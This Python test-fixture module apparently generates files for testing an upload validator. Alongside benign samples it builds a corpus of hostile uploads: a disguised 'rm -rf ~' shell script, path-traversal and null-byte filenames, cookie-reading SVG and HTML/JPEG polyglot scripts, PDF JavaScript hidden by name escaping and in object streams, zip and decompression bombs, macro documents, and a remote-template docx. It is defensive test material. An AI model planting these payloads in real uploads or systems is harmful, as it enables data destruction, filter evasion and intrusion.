"""Files for evidence tests: good ones of each family, and the corpus of bad inputs that
must each be refused with a clear reason. Made here, in memory, small (the biggest is the
decompression bomb's header-sized PNG); nothing is downloaded."""

from __future__ import annotations

import io
import struct
import time
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from functools import lru_cache


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int = 4, height: int = 3, extra: bytes = b"") -> bytes:
    """A real greyscale PNG; `extra` goes in a tEXt chunk (for polyglot tests)."""
    raw = b"".join(b"\0" + b"\x80" * width for _ in range(height))
    text = _png_chunk(b"tEXt", b"Comment\0" + extra) if extra else b""
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
        + text
        + _png_chunk(b"IDAT", zlib.compress(raw))
        + _png_chunk(b"IEND", b"")
    )


@lru_cache
def decompression_bomb_png(side: int = 20_000) -> bytes:
    """A real 1-bit PNG of side x side pixels (400 million at the default) in ~60 KB."""
    row = b"\0" * (1 + (side + 7) // 8)
    packer = zlib.compressobj(9)
    idat = b"".join(packer.compress(row) for _ in range(side)) + packer.flush()
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0))
        + _png_chunk(b"IDAT", idat)
        + _png_chunk(b"IEND", b"")
    )


def jpeg(width: int = 8, height: int = 8, comment: bytes = b"") -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (width, height), (200, 30, 30)).save(out, "JPEG", quality=80)
    data = out.getvalue()
    if comment:
        # A COM segment straight after SOI: where JPEG/HTML polyglots hide their page.
        data = data[:2] + b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment + data[2:]
    return data


def jpeg_of_size(size: int) -> bytes:
    """A valid JPEG padded (in a COM segment... and after EOI) to exactly `size` bytes."""
    data = jpeg()
    return data + b"\0" * (size - len(data))


def pdf(body: bytes = b"BT /F1 12 Tf 72 720 Td (A statement) Tj ET") -> bytes:
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
        b"<< /Length %d >>\nstream\n" % len(body) + body + b"\nendstream",
    ]
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, obj in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + obj + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % at for at in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


def pdf_with_javascript() -> bytes:
    return pdf().replace(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>",
    )


def _zip(entries: dict[str, bytes], first: str | None = None) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        if first:
            archive.writestr(zipfile.ZipInfo(first), entries.pop(first), zipfile.ZIP_STORED)
        for name, data in entries.items():
            archive.writestr(name, data)
    return out.getvalue()


CONTENT_TYPES = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'


def docx(extra: dict[str, bytes] | None = None) -> bytes:
    return _zip(
        {
            "[Content_Types].xml": CONTENT_TYPES,
            "_rels/.rels": b"<Relationships/>",
            "word/document.xml": b"<w:document><w:body>A statement</w:body></w:document>",
            **(extra or {}),
        }
    )


def xlsx() -> bytes:
    return _zip(
        {
            "[Content_Types].xml": CONTENT_TYPES,
            "xl/workbook.xml": b"<workbook/>",
        }
    )


def docm() -> bytes:
    return docx({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"})


def odt() -> bytes:
    return _zip(
        {
            "mimetype": b"application/vnd.oasis.opendocument.text",
            "content.xml": b"<office:document-content/>",
        },
        first="mimetype",
    )


def plain_zip() -> bytes:
    return _zip({"holiday.jpg": jpeg(), "notes.txt": b"hello"})


def zip_bomb_docx() -> bytes:
    """A docx whose one part unpacks to 200 MB from a few hundred KB."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        archive.writestr("word/document.xml", b"<w:document/>")
        with archive.open("word/media/big.bin", "w") as big:
            block = b"\0" * (1024 * 1024)
            for _ in range(200):
                big.write(block)
    return out.getvalue()


def mp4() -> bytes:
    ftyp = b"ftypisom" + struct.pack(">I", 512) + b"isomiso2avc1mp41"
    return struct.pack(">I", len(ftyp) + 4) + ftyp + struct.pack(">I", 8) + b"free" + b"\0" * 64


def heic(width: int = 4032, height: int = 3024) -> bytes:
    ftyp = b"ftypheic" + b"\0\0\0\0" + b"mif1heic"
    ispe = struct.pack(">I", 20) + b"ispe" + b"\0\0\0\0" + struct.pack(">II", width, height)
    meta = struct.pack(">I", 8 + 4 + len(ispe)) + b"meta" + b"\0\0\0\0" + ispe
    return struct.pack(">I", len(ftyp) + 4) + ftyp + meta


def executable() -> bytes:
    """The start of a Windows program (MZ header with a PE signature)."""
    return b"MZ" + b"\x90\x00" * 29 + struct.pack("<I", 64) + b"PE\0\0\x4c\x01" + b"\0" * 200


def elf() -> bytes:
    return b"\x7fELF\x02\x01\x01" + b"\0" * 200


def shell_script() -> bytes:
    return b"#!/bin/sh\nrm -rf ~\n"


def svg_with_script() -> bytes:
    return (
        b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg">'
        b"<script>alert(document.cookie)</script></svg>"
    )


def html_page() -> bytes:
    return b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"


def html_jpeg_polyglot() -> bytes:
    return jpeg(comment=b"<html><body><script>alert(document.domain)</script></body></html>")


def gzip_file() -> bytes:
    import gzip

    return gzip.compress(b"hello" * 100)


def eicar() -> bytes:
    """The EICAR anti-virus test file (harmless by design), assembled at run time."""
    return b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!" + b"$H+H*"


BAD_NAMES = ["../../etc/passwd", "..\\..\\windows\\win.ini", "photo\x00.jpg.exe", "/abs/x.jpg"]


def drip(body: bytes, piece: int = 1, delay: float = 0.2) -> Iterator[bytes]:
    """A slow-drip upload body: a byte at a time, with pauses."""
    for at in range(0, len(body), piece):
        time.sleep(delay)
        yield body[at : at + piece]


@dataclass(frozen=True)
class BadInput:
    label: str
    filename: str
    declared_type: str
    body: bytes
    reason: str  # words the refusal must contain


def bad_inputs() -> list[BadInput]:
    """Each refused by type or content (the size, name and drip cases depend on limits and
    on HTTP, so they are separate helpers above)."""
    return [
        BadInput("executable renamed .jpg", "holiday.jpg", "image/jpeg", executable(), "program"),
        BadInput("ELF renamed .mp4", "video.mp4", "video/mp4", elf(), "program"),
        BadInput("shell script", "notes.txt", "text/plain", shell_script(), "program"),
        BadInput("SVG with script", "drawing.svg", "image/svg+xml", svg_with_script(), "SVG"),
        BadInput("HTML page", "page.pdf", "application/pdf", html_page(), "web page"),
        BadInput("HTML/JPEG polyglot", "photo.jpg", "image/jpeg", html_jpeg_polyglot(), "web page"),
        BadInput("zip", "photos.zip", "application/zip", plain_zip(), "compressed"),
        BadInput("gzip", "photo.jpg", "image/jpeg", gzip_file(), "compressed"),
        BadInput(
            "decompression bomb image",
            "bomb.png",
            "image/png",
            decompression_bomb_png(),
            "too large",
        ),
        BadInput(
            "spoofed content type", "photo.jpg", "image/jpeg", b"<html>hello</html>", "web page"
        ),
        BadInput("macro document", "report.docx", "application/msword", docm(), "macros"),
        BadInput(
            "PDF with JavaScript", "doc.pdf", "application/pdf", pdf_with_javascript(), "JavaScript"
        ),
        BadInput(
            "old Word file",
            "statement.doc",
            "application/msword",
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512,
            ".doc",
        ),
    ]


# Hidden in ways a byte search misses (the security review's cases) ------------------------


def pdf_with_escaped_javascript() -> bytes:
    """/J#61vaScript is /JavaScript to every PDF reader."""
    return pdf().replace(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Catalog /Pages 2 0 R "
        b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >> >>",
    )


def pdf_with_javascript_in_an_object_stream() -> bytes:
    """The action lives in a compressed object stream, found through a cross-reference
    stream: none of its names appear in the file's bytes."""
    action = b"<< /S /JavaScript /JS (app.alert(1)) >>"
    header = b"5 0 "
    packed = zlib.compress(header + action)
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
        4: b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
        % (len(header), len(packed))
        + packed
        + b"\nendstream",
    }
    out = bytearray(b"%PDF-1.5\n")
    offsets = {}
    for number, body in objects.items():
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    offsets[6] = len(out)
    rows = [struct.pack(">BIH", 0, 0, 65535)]
    rows += [struct.pack(">BIH", 1, offsets[n], 0) for n in (1, 2, 3, 4)]
    rows += [struct.pack(">BIH", 2, 4, 0), struct.pack(">BIH", 1, offsets[6], 0)]
    table = b"".join(rows)
    out += (
        b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n"
        % len(table)
        + table
        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % offsets[6]
    )
    return bytes(out)


def pdf_with_a_link() -> bytes:
    """A link a person clicks: allowed."""
    return pdf().replace(
        b"/MediaBox [0 0 612 792]",
        b"/MediaBox [0 0 612 792] /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] "
        b"/A << /S /URI /URI (https://example.org/) >> >>]",
    )


def gif() -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("P", (6, 4), 1).save(out, "GIF")
    return out.getvalue()


def mp3() -> bytes:
    return b"ID3\x04\x00\x00\x00\x00\x00\x00" + (b"\xff\xfb\x90\x00" + b"\x55" * 413) * 6


def motion_photo(marker: bytes = b"") -> bytes:
    """A phone's motion photo: the still, then (optionally after a marker) a short MP4."""
    return jpeg() + marker + mp4()


def with_zip_appended(body: bytes) -> bytes:
    return body + plain_zip()


def docx_with_external_template() -> bytes:
    rels = (
        b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
        b'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
        b'openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        b'Target="http://203.0.113.9/t.dotm" TargetMode="External"/></Relationships>'
    )
    return docx({"word/_rels/settings.xml.rels": rels})


def docx_with_a_hyperlink() -> bytes:
    rels = (
        b"<Relationships><Relationship Id='rId4' TargetMode='External' Type='http://schemas."
        b"openxmlformats.org/officeDocument/2006/relationships/hyperlink' "
        b"Target='https://example.org/'/></Relationships>"
    )
    return docx({"word/_rels/document.xml.rels": rels})


def docx_with_macro_workbook() -> bytes:
    return docx({"word/embeddings/Microsoft_Excel_Macro-Enabled_Worksheet.xlsm": b"PK\x03\x04"})
